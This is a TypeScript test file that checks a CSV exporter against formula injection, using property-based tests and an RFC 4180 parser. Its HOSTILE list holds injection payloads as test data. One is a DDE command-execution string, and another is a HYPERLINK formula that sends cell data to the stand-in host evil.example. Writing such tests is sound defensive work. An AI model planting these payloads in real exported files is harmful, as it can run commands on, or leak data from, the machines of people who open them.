// CSV that is opened in a spreadsheet: no name becomes a formula, a second cell or a second line, and every name can be
// read back.
import { expect, test } from 'vitest';
import { encodePath } from '../../domain/path.ts';
import { csvLine } from '../../services/bundle/csv.ts';
import { fc } from '../support/random.ts';

/** RFC 4180, by the letter. */
function parse(line: string): string[] {
  expect(line.endsWith('\r\n')).toBe(true);
  const cells: string[] = [];
  let at = 0;
  const end = line.length - 2;
  for (;;) {
    if (line[at] === '"') {
      let text = '';
      for (at += 1; ; at += 1) {
        if (line[at] === '"' && line[at + 1] !== '"') break;
        if (line[at] === '"') at += 1;
        text += line[at] ?? '';
        if (at > end) throw new Error(`a quote is never closed: ${line}`);
      }
      at += 1;
      cells.push(text);
    } else {
      const comma = line.indexOf(',', at);
      const stop = comma === -1 ? end : comma;
      cells.push(line.slice(at, stop));
      at = stop;
    }
    if (at === end) return cells;
    expect(line[at]).toBe(',');
    at += 1;
  }
}

/** What a spreadsheet would evaluate. */
const isFormula = (cell: string): boolean => /^[\s\u00a0]*[=+\-@\uff1d\uff0b\uff0d\uff20\t\r]/.test(cell);

const HOSTILE = [
  "=cmd|' /C calc'!A0",
  '=HYPERLINK("http://evil.example/?"&A1,"click")',
  '@SUM(1+1)*cmd|x',
  '+1+1',
  '-2+3',
  '\t=1+1',
  '\r=1+1',
  ' =1+1',
  '\u00a0=1+1',
  '\uff1d1+1',
  'a,b',
  '"',
  '","=1+1',
  'x\r\n=1+1',
  "'=1+1",
  "'",
  '',
  ' ',
];

test.each(HOSTILE)('%j is text in its cell, and can be read back', (raw) => {
  const printable = encodePath(Buffer.from(raw));
  const cells = parse(csvLine([printable, 7, null, printable]));
  expect(cells).toHaveLength(4);
  expect([cells[1], cells[2]]).toEqual(['7', '']);
  for (const cell of [cells[0] ?? '', cells[3] ?? '']) {
    expect(isFormula(cell)).toBe(false);
    expect(cell).not.toMatch(/\p{Cc}/u);
    expect(cell.replace(/^'/, '')).toBe(printable);
  }
});

test('any bytes of a name make one cell of one line, never a formula, and come back', () => {
  fc.assert(
    fc.property(fc.array(fc.uint8Array({ minLength: 1, maxLength: 12 }), { minLength: 1, maxLength: 4 }), (names) => {
      const printable = names.map((name) => encodePath(name.map((byte) => (byte === 0 ? 1 : byte))));
      const cells = parse(csvLine(printable));
      expect(cells.map((cell) => cell.replace(/^'/, ''))).toEqual(printable);
      expect(cells.some(isFormula)).toBe(false);
    }),
  );
});

test('numbers stay numbers, also negative ones', () => {
  expect(csvLine([-5, 12n, 'a'])).toBe('-5,12,"a"\r\n');
});
